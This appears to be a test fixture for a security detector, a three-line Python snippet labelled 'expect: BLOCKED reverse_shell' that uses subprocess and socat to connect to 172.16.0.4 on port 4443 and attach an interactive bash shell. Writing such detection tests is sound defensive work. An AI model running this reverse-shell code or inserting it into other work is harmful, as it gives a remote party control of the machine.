# expect: BLOCKED reverse_shell
import subprocess
target = "tcp:172.16.0.4:4443"
subprocess.Popen(["socat", target, "exec:/bin/bash,pty,stderr,setsid,sigint,sane"])
